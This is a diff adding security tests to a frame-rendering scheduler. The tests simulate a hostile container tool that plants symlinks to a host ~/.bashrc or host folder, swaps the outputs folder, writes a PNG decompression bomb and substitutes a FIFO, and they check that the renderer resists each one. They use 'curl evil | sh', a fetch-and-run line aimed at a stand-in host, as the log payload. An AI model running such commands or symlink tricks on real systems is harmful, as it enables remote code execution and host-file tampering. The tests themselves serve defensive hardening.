@@ -3,6 +3,8 @@ patterns), PNG verification, and the chunk scheduler with a fake chunk runner.""
 
 from __future__ import annotations
 
+import os
+import shutil
 import struct
 import threading
 import time
@@ -13,10 +15,12 @@ import pytest
 
 from landscape.errors import ConfigError, LandscapeError
 from landscape.frames import chunks, parse
-from landscape.renderspec import (BadImage, RenderSpec, attempt_pattern, check_pattern,
+from landscape.renderspec import (BadImage, RenderSpec, attempt_folder, attempt_pattern,
+                                  check_pattern,
                                   confined, frame_name, png_size, render_spec, substitute,
                                   verify_frame, weaker_check)
-from landscape.engine.render import (LOGS, RenderJob, frames_to_render, host_path, render)
+from landscape.engine.render import (LOGS, RenderJob, frames_to_render, host_path, log_tail,
+                                     render)
 
 
 def png(width: int, height: int, *, interlace: int = 0, color: int = 2) -> bytes:
@@ -414,3 +418,110 @@ def test_a_chunk_claiming_more_than_the_file_holds_is_not_read(tmp_path):
     f = tmp_path / "f.png"
     f.write_bytes(png(2, 2)[:33] + struct.pack(">I", 0x7FFFFFF0) + b"IDAT" + b"\0" * 16)
     assert "truncated in chunk IDAT" in verify_frame(f, "decodes")
+
+
+# -- a hostile tool: the outputs folder is writable by every container of the render -----
+
+class Planting:
+    """A chunk runner that acts as a hostile tool would inside its container: on its
+    first attempt it plants ``plant(outdir, chunk)`` in the outputs folder and fails; the
+    next attempt prints ``payload`` and fails."""
+
+    def __init__(self, outdir: Path, plant, payload: bytes = b"curl evil | sh\n"):
+        self.outdir, self.plant, self.payload = outdir, plant, payload
+
+    def __call__(self, chunk, attempt, args, log):
+        if attempt == 1:
+            self.plant(self.outdir, chunk)
+        with open(log, "ab") as f:
+            f.write(self.payload)
+        return 1
+
+
+def test_a_log_symlinked_by_a_container_never_overwrites_a_host_file(tmp_path):
+    # the tool makes the next attempt's log a symlink to the artist's ~/.bashrc
+    victim = tmp_path / "bashrc"
+    victim.write_text("precious\n")
+
+    def plant(outdir, chunk):
+        (outdir / LOGS).mkdir(exist_ok=True)
+        (outdir / LOGS / f"{chunk.name}.2.log").symlink_to(victim)
+
+    j = job(tmp_path, "1-2", retries=1, parallel=1)
+    result = render(j, Planting(j.outdir, plant), log=lambda line: None)
+    assert not result.ok
+    assert victim.read_text() == "precious\n"
+    kept = j.outdir / LOGS / "1-2.2.log"
+    assert not kept.is_symlink() and kept.read_bytes() == b"curl evil | sh\n"
+    assert result.results[0].log == kept
+    assert log_tail(result.results[0]) == ["curl evil | sh"]
+
+
+def test_a_logs_folder_or_outputs_folder_swapped_for_a_symlink_is_not_followed(tmp_path):
+    elsewhere = tmp_path / "host-folder"
+    elsewhere.mkdir()
+
+    def logs_link(outdir, chunk):
+        (outdir / LOGS).symlink_to(elsewhere)
+
+    j = job(tmp_path, "1-2", retries=1, parallel=1)
+    render(j, Planting(j.outdir, logs_link), log=lambda line: None)
+    assert list(elsewhere.iterdir()) == []
+
+    def outdir_link(outdir, chunk):
+        shutil.rmtree(outdir)
+        outdir.symlink_to(elsewhere)
+
+    j2 = job(tmp_path / "2", "1-2", retries=1, parallel=1)
+    lines: list[str] = []
+    result = render(j2, Planting(j2.outdir, outdir_link), log=lines.append)
+    assert list(elsewhere.iterdir()) == []
+    assert result.results[0].log is None and log_tail(result.results[0]) == ["curl evil | sh"]
+    assert any("log not kept" in line for line in lines)
+
+
+def test_frames_are_not_moved_through_an_outputs_folder_swapped_after_the_render(tmp_path):
+    # a tool that renders, then swaps the outputs folder for a symlink out of the workdir
+    elsewhere = tmp_path / "host-folder"
+    elsewhere.mkdir()
+    j = job(tmp_path, "1-2", retries=0, parallel=1)
+    fake = FakeTool(j.workdir)
+
+    def tool(chunk, attempt, args, log):
+        code = fake(chunk, attempt, args, log)
+        moved = j.outdir.with_name("moved")
+        j.outdir.rename(moved)
+        j.outdir.symlink_to(elsewhere)
+        (elsewhere / attempt_folder(chunk.name, attempt)).symlink_to(
+            moved / attempt_folder(chunk.name, attempt))
+        return code
+
+    result = render(j, tool, log=lambda line: None)
+    assert not result.ok and "replaced" in result.results[0].reason
+    assert [p.name for p in elsewhere.iterdir()] == [attempt_folder("1-2", 1)]
+
+
+def test_a_frame_that_inflates_to_gigabytes_is_decoded_in_bounded_memory(tmp_path):
+    # a hostile tool writes a few hundred KB that inflate to the size its header promises
+    import tracemalloc
+
+    f = tmp_path / "bomb.png"
+    f.write_bytes(png(4096, 4096, color=6))  # 64 MiB of pixel data, about 65 KB on disk
+    assert f.stat().st_size < 1 << 20
+    tracemalloc.start()
+    try:
+        assert verify_frame(f, "decodes") is None
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 8 << 20
+
+
+def test_a_fifo_swapped_in_for_a_frame_is_refused_without_blocking(tmp_path):
+    os.mkfifo(tmp_path / "f.png")
+    with pytest.raises(BadImage, match="not a regular file"):
+        png_size(tmp_path / "f.png")
+    (tmp_path / "real.png").write_bytes(png(2, 2))
+    (tmp_path / "link.png").symlink_to(tmp_path / "real.png")
+    with pytest.raises(OSError):
+        png_size(tmp_path / "link.png")
